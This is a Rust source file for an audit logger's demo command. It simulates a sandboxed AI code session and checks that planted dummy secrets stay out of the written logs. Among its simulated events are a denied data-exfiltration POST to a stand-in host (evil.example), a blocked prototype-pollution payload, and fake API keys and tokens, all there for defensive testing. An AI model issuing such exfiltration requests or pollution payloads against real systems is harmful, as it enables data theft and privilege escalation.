//! `ncp-audit demo`: a Code-Mode session through the whole pipeline, then the operator's view.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;
use std::io::{self, Write as _};
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::Duration;

use anyhow::Context;
use audit_core::{AuditEvent, Outcome, SessionId, Severity};
use audit_sink::{AuditLogger, SegmentName};

/// Where the demo writes.
#[derive(Debug, clap::Args)]
pub(crate) struct DemoArgs {
    /// The audit directory to write the session into; created when missing.
    #[arg(long)]
    dir: PathBuf,
}

/// Secrets the session plants, with a label to report them by: the report never prints a
/// secret itself.
const PLANTED_SECRETS: [(&str, &str); 5] = [
    ("GitHub token in a URL", "ghp_R4nd0mDemoT0kenAbCdEfGhIjKlMnOpQr12"),
    ("OpenAI key in a URL", "sk-proj-DemoKey8f3a9c2e1b7d4f6a0c5e9b3d"),
    ("password in a code snippet", "Tr0ub4dor&3-demo"),
    ("AWS access key in a code snippet", "AKIAIOSFODNN7EXAMPLE"),
    ("bearer token in an error", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJkZW1vIn0.c2lnbmF0dXJlLWRlbW8"),
];

pub(crate) fn run(args: &DemoArgs) -> anyhow::Result<ExitCode> {
    // The design's defaults, whatever this machine configures: the demo shows the product as
    // it ships.
    // Retention is off, so that pointing the demo at a directory that holds a history deletes
    // none of it.
    let config =
        audit_config::AuditConfig { dir: args.dir.clone(), max_files: 0, ..Default::default() };
    let logger = AuditLogger::from_config(&config)
        .with_context(|| format!("opening the audit directory {}", args.dir.display()))?;
    let session_id = SessionId::generate().context("making a session id")?;
    let events = session(session_id.as_str());
    let n_events = events.len();
    for event in events {
        logger.log(event);
    }
    let status = logger.shutdown().context("writing the session")?;

    let mut report = String::new();
    let _ = writeln!(
        report,
        "Logged a Code-Mode session ({session_id}): {n_events} events, {} written to {}\n",
        status.written,
        args.dir.display()
    );
    let leaks = describe(&args.dir, session_id.as_str(), &mut report)?;
    let intact = describe_integrity(&args.dir, &mut report)?;
    describe_next_steps(&args.dir, session_id.as_str(), &mut report);
    print(&report)?;
    Ok(if leaks == 0 && intact { ExitCode::SUCCESS } else { ExitCode::FAILURE })
}

/// Checks the integrity chain of the whole directory, as `ncp-audit verify` does; says
/// whether it is intact.
fn describe_integrity(dir: &std::path::Path, report: &mut String) -> anyhow::Result<bool> {
    let verified = audit_sink::verify_dir(dir, |_| {})
        .with_context(|| format!("verifying {}", dir.display()))?;
    let verdict = verified.verdict();
    let lines: u64 = verified.files.iter().map(|file| file.lines).sum();
    let head = verified.head.map(|link| link.seq).unwrap_or(0);
    let _ = writeln!(report, "\nIntegrity");
    let _ = match verdict {
        audit_sink::Verdict::Intact => writeln!(
            report,
            "  intact: {lines} lines in {} file(s), every one chained (head seq {head})",
            verified.files.len()
        ),
        other => writeln!(report, "  {other:?}: run `ncp-audit verify` for the details"),
    };
    Ok(verdict == audit_sink::Verdict::Intact)
}

/// The commands an operator would run next on this directory.
fn describe_next_steps(dir: &std::path::Path, session_id: &str, report: &mut String) {
    let dir = dir.display();
    let _ = writeln!(report, "\nNext, as an operator");
    for command in [
        format!("ncp-audit query --dir {dir} --severity warning --format table"),
        format!("ncp-audit query --dir {dir} --session {session_id} --type 'network_*'"),
        format!("ncp-audit stats --dir {dir}"),
        format!("ncp-audit verify {dir}"),
        format!("jq -c 'select(.outcome == \"blocked\")' {dir}/audit-*.jsonl"),
    ] {
        let _ = writeln!(report, "  {command}");
    }
}

/// What a sandbox running an AI's code for one user does in a few minutes.
fn session(session_id: &str) -> Vec<AuditEvent> {
    let [github, openai, password, aws, bearer] = PLANTED_SECRETS.map(|(_, secret)| secret);
    let ms = Duration::from_millis;
    let list_issues = "const issues = await github.listIssues({ repo: 'acme/app' });\n\
                       return issues.length;";
    let connect = format!(
        "const db = await pg.connect({{ user: 'admin', password: '{password}' }});\n\
         const s3 = new S3({{ accessKeyId: '{aws}' }});"
    );
    let spin = "while (true) { /* wait for the build */ }";
    let pollute = "JSON.parse('{\"__proto__\": {\"isAdmin\": true}}')";
    let events = vec![
        AuditEvent::binding_created("github", &["listIssues", "createIssue"]),
        AuditEvent::binding_created("filesystem", &["readFile", "writeFile"]),
        AuditEvent::code_execution_start(list_issues),
        AuditEvent::network_request_allowed(
            &format!("https://api.github.com/repos/acme/app/issues?access_token={github}"),
            "GET",
        ),
        AuditEvent::binding_accessed("github", "listIssues", ms(184)),
        AuditEvent::code_execution_success(list_issues, "3", ms(212)),
        AuditEvent::code_execution_start(&connect),
        AuditEvent::code_execution_error(&connect, "connect ECONNREFUSED 10.0.0.5:5432", ms(31)),
        AuditEvent::network_permission_granted("https://api.openai.com/", Some("1h")),
        AuditEvent::network_request_allowed(
            &format!("https://api.openai.com/v1/chat/completions?key={openai}"),
            "POST",
        ),
        AuditEvent::binding_accessed("filesystem", "readFile", ms(2)),
        AuditEvent::binding_accessed("filesystem", "readFile", ms(1)),
        AuditEvent::binding_accessed("filesystem", "writeFile", ms(4)),
        AuditEvent::code_execution_start(spin),
        AuditEvent::code_execution_timeout(spin, ms(5_000), ms(5_003)),
        AuditEvent::network_request_denied(
            "http://evil.example/exfiltrate?data=c3RvbGVu",
            "POST",
            "Domain not in whitelist",
        ),
        AuditEvent::network_permission_denied("https://pastebin.com/", "User declined"),
        AuditEvent::code_execution_error(
            "await fetch('https://api.acme.test/deploy')",
            &format!("Request failed: 401 Unauthorized (Authorization: Bearer {bearer})"),
            ms(88),
        ),
        AuditEvent::code_execution_start(pollute),
        AuditEvent::prototype_pollution_blocked("Object.prototype", "isAdmin"),
        AuditEvent::security_violation("Attempt to modify Object.prototype", pollute),
        AuditEvent::network_permission_revoked("https://api.openai.com/", "Session ended"),
    ];
    events
        .into_iter()
        .map(|event| {
            event.with_mcp_name("code-mode").with_user_id("user-42").with_session_id(session_id)
        })
        .collect()
}

/// Appends the operator's view of `dir` to `report`; returns how many planted secrets were
/// found in a file.
fn describe(dir: &Path, session_id: &str, report: &mut String) -> anyhow::Result<usize> {
    let mut names: Vec<SegmentName> = fs::read_dir(dir)
        .with_context(|| format!("listing {}", dir.display()))?
        .filter_map(|entry| SegmentName::parse(entry.ok()?.file_name().to_str()?))
        .filter(|name| !name.compressed)
        .collect();
    names.sort_by(SegmentName::cmp_time);

    let _ = writeln!(report, "Files");
    let mut session_events = Vec::new();
    let mut leaks = Vec::new();
    for name in &names {
        let path = dir.join(name.to_string());
        let text =
            fs::read_to_string(&path).with_context(|| format!("reading {}", path.display()))?;
        let _ = writeln!(
            report,
            "  {name:<36} {:>8} bytes {:>6} lines",
            text.len(),
            text.lines().count()
        );
        for (label, secret) in PLANTED_SECRETS {
            if text.contains(secret) {
                leaks.push(format!("{label}: found in {name}"));
            }
        }
        session_events.extend(
            text.lines()
                .filter_map(|line| AuditEvent::from_json(line).ok())
                .filter(|event| event.context.session_id.as_deref() == Some(session_id)),
        );
    }

    counts(&session_events, report);
    table(&session_events, report);

    let _ = writeln!(report, "\nSecrets");
    if leaks.is_empty() {
        let _ = writeln!(
            report,
            "  none of the {} planted secrets is in any file",
            PLANTED_SECRETS.len()
        );
    } else {
        for leak in &leaks {
            let _ = writeln!(report, "  LEAKED {leak}");
        }
    }
    Ok(leaks.len())
}

fn counts(events: &[AuditEvent], report: &mut String) {
    let mut by_type: BTreeMap<&str, usize> = BTreeMap::new();
    let mut by_severity: BTreeMap<Severity, usize> = BTreeMap::new();
    for event in events {
        *by_type.entry(event.event_type.as_str()).or_default() += 1;
        *by_severity.entry(event.severity).or_default() += 1;
    }
    let _ = writeln!(report, "\nThis session's events by type");
    for (event_type, count) in &by_type {
        let _ = writeln!(report, "  {event_type:<30} {count:>4}");
    }
    let _ = writeln!(report, "\nBy severity");
    for (severity, count) in &by_severity {
        let _ = writeln!(report, "  {:<30} {count:>4}", severity.as_str());
    }
}

/// The events an operator looks at first: denied, blocked, and critical ones.
fn table(events: &[AuditEvent], report: &mut String) {
    let _ = writeln!(report, "\nDenied, blocked and critical");
    let _ = writeln!(
        report,
        "  {:<12}  {:<28}  {:<8}  {:<7}  WHAT",
        "TIME", "TYPE", "SEVERITY", "OUTCOME"
    );
    for event in events
        .iter()
        .filter(|event| event.outcome == Outcome::Blocked || event.severity == Severity::Critical)
    {
        let time = event.timestamp.to_string();
        let _ = writeln!(
            report,
            "  {:<12}  {:<28}  {:<8}  {:<7}  {}",
            &time[11..23],
            event.event_type.as_str(),
            event.severity.as_str(),
            event.outcome.as_str(),
            summary(event)
        );
    }
}

/// A short, printable account of what the event is about.
fn summary(event: &AuditEvent) -> String {
    let text = |key: &str| event.details.get(key).and_then(|value| value.as_str());
    let parts: Vec<&str> = ["url", "violation", "target", "property", "reason", "error"]
        .into_iter()
        .filter_map(text)
        .collect();
    let joined = parts.join(" - ");
    let printable: String = joined.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
    if printable.chars().count() > 72 {
        format!("{}...", printable.chars().take(69).collect::<String>())
    } else {
        printable
    }
}

/// Writes `report` to stdout; a reader that went away (a closed pipe) is not an error.
fn print(report: &str) -> anyhow::Result<()> {
    match io::stdout().lock().write_all(report.as_bytes()) {
        Err(error) if error.kind() != io::ErrorKind::BrokenPipe => {
            Err(error).context("writing to stdout")
        }
        _ => Ok(()),
    }
}
